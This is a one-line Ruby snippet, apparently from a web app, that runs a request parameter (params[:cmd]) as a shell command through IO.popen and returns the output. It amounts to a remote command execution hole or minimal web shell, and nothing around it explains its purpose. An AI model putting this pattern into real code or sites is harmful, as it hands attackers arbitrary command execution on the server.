output = IO.popen(params[:cmd]).read
